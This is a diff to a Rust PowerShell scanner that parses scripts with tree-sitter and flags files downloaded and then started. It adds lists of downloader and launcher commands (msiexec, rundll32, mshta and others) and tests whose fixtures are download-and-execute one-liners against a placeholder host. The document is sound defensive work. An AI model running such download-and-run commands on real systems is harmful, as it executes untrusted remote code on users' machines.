@@ -1,5 +1,6 @@
 //! PowerShell read as a syntax tree (tree-sitter-powershell): downloads that reach
-//! `Invoke-Expression` through a variable, commands given as `-EncodedCommand` base64
+//! `Invoke-Expression` through a variable, files downloaded and then started (`-OutFile`,
+//! `DownloadFile`, then `Start-Process`, `&`, `.\\file`), commands given as `-EncodedCommand` base64
 //! (decoded from UTF-16LE and read again as PowerShell), and writes to the profile script,
 //! which runs at every start. What one line shows (`iwr … | iex`, a TCP client wired to
 //! `iex`, Run keys, scheduled tasks, credential files read, the encoded command itself) stays
@@ -13,6 +14,31 @@ const DOWNLOADERS: &[&str] =
     &["iwr", "irm", "invoke-webrequest", "invoke-restmethod", "curl", "wget", "start-bitstransfer"];
 const DOWNLOAD_METHODS: &[&str] = &["downloadstring(", "downloaddata(", "downloadfile(", "getstringasync("];
 const POWERSHELLS: &[&str] = &["powershell", "powershell.exe", "pwsh", "pwsh.exe"];
+/// The parameters a downloader writes its file to (any prefix PowerShell accepts is not
+/// needed: these are how scripts spell them).
+const OUT_FILE: &[&str] = &["-outfile", "-o", "--output", "-destination"];
+/// Commands that start the file they are given: a program, an installer or a script.
+const STARTERS: &[&str] = &[
+    "start-process",
+    "saps",
+    "start",
+    "invoke-item",
+    "ii",
+    "cmd",
+    "cmd.exe",
+    "msiexec",
+    "msiexec.exe",
+    "rundll32",
+    "rundll32.exe",
+    "regsvr32",
+    "regsvr32.exe",
+    "wscript",
+    "wscript.exe",
+    "cscript",
+    "cscript.exe",
+    "mshta",
+    "mshta.exe",
+];
 
 /// One command of a pipeline: its name, lower-cased, and its arguments as written.
 struct Command<'a> {
@@ -25,7 +51,8 @@ struct Command<'a> {
 pub fn walk(eng: &mut Engine, code: &str, base: usize) {
     let language: tree_sitter::Language = tree_sitter_powershell::LANGUAGE.into();
     let Some(tree) = super::tree_sitter_parse(&language, code) else { return };
-    // Variables assigned a download: (`$name`, lower-cased; where).
+    // Variables assigned a download, and files a download is written to: (`$name` or the
+    // path, as [`as_target`] writes it; where).
     let mut downloaded: Vec<(String, Origin)> = Vec::new();
     let mut stack = vec![tree.root_node()];
     while let Some(node) = stack.pop() {
@@ -42,6 +69,18 @@ pub fn walk(eng: &mut Engine, code: &str, base: usize) {
             "command" => {
                 if let Some(command) = command_of(code, node) {
                     read_command(eng, base, &command, &downloaded);
+                    if let Some(file) = written_by_downloader(&command) {
+                        let what = format!("{} downloads to {file}", command.name);
+                        downloaded.push((file, Origin { at: base + node.start_byte(), what }));
+                    }
+                }
+            }
+            // `(New-Object Net.WebClient).DownloadFile($url, $path)`.
+            kind if kind.starts_with("invokation") || kind.starts_with("invocation") => {
+                let call = &code[node.byte_range()];
+                if let Some(file) = downloadfile_target(call) {
+                    let what = format!("DownloadFile downloads to {file}");
+                    downloaded.push((file, Origin { at: base + node.start_byte(), what }));
                 }
             }
             _ => {}
@@ -80,10 +119,44 @@ fn download_in(code: &str) -> Option<&'static str> {
         .copied()
 }
 
+/// A path or variable as a target is compared: lower-cased, without quotes or a leading `.\`.
+fn as_target(text: &str) -> String {
+    let text = text.trim().trim_matches(['"', '\'']).to_ascii_lowercase();
+    text.strip_prefix(".\\").or_else(|| text.strip_prefix("./")).unwrap_or(&text).to_string()
+}
+
+/// The file a downloader's command writes (`iwr URL -OutFile PATH`).
+fn written_by_downloader(c: &Command) -> Option<String> {
+    if !DOWNLOADERS.contains(&c.name.as_str()) {
+        return None;
+    }
+    let at = c.args.iter().position(|a| OUT_FILE.contains(&a.to_ascii_lowercase().as_str()))?;
+    c.args.get(at + 1).map(|file| as_target(file)).filter(|f| !f.is_empty())
+}
+
+/// The second argument of a `DownloadFile(url, path)` call.
+fn downloadfile_target(call: &str) -> Option<String> {
+    let lower = call.to_ascii_lowercase();
+    let args = &call[lower.find("downloadfile(")? + "downloadfile(".len()..];
+    let args = &args[..args.rfind(')')?];
+    let (_, path) = args.split_once(',')?;
+    Some(as_target(path)).filter(|p| !p.is_empty())
+}
+
 fn read_command(eng: &mut Engine, base: usize, c: &Command, downloaded: &[(String, Origin)]) {
     let (start, end) = (base + c.start, base + c.end);
     let args_lower: Vec<String> = c.args.iter().map(|a| a.to_ascii_lowercase()).collect();
     let name = c.name.as_str();
+    // A downloaded file started: by name (`.\a.exe`, `& $out`) or handed to a starter.
+    let target = as_target(name);
+    let started = downloaded.iter().find(|(file, _)| {
+        target == *file
+            || (STARTERS.contains(&name) && args_lower.iter().any(|a| as_target(a) == *file || mentions(a, file)))
+    });
+    if let Some((file, origin)) = started {
+        eng.flow("remote-code-run", start, end, origin, &format!("starts {file}"));
+        return;
+    }
     if RUNS_TEXT.contains(&name) {
         // A variable that holds a download, run: the one-line cradle is the line readers'.
         for (var, origin) in downloaded {
@@ -162,6 +235,23 @@ mod tests {
         assert!(ids("setup.ps1", ps).contains(&("remote-code-run", "critical")), "{:?}", ids("setup.ps1", ps));
         let saved = "$s = Invoke-WebRequest -Uri 'https://dl.example.net/notes.txt'\nWrite-Output $s.Content\n";
         assert!(!ids("fetch.ps1", saved).iter().any(|(id, _)| *id == "remote-code-run"));
+    }
+
+    /// A file downloaded and then started, by name or through a starter, is remote code;
+    /// downloaded and only read, it is not.
+    #[test]
+    fn a_downloaded_file_started_is_remote_code() {
+        let runs = |ps: &str| ids("setup.ps1", ps).iter().any(|(id, _)| *id == "remote-code-run");
+        assert!(runs(
+            "Invoke-WebRequest -Uri 'https://dl.example.net/a.exe' -OutFile \"$env:TEMP\\a.exe\"\nStart-Process \"$env:TEMP\\a.exe\"\n"
+        ));
+        assert!(runs(
+            "$out = \"$env:TEMP\\a.exe\"\n(New-Object Net.WebClient).DownloadFile('https://dl.example.net/a.exe', $out)\n& $out\n"
+        ));
+        assert!(runs("iwr https://dl.example.net/a.ps1 -OutFile a.ps1\n.\\a.ps1\n"));
+        assert!(runs("iwr https://dl.example.net/s.msi -OutFile s.msi\nmsiexec /i s.msi /qn\n"));
+        assert!(!runs("iwr https://dl.example.net/data.csv -OutFile data.csv\nImport-Csv data.csv\n"));
+        assert!(!runs("iwr https://dl.example.net/a.exe -OutFile a.exe\nStart-Process notepad.exe\n"));
     }
 
     #[test]
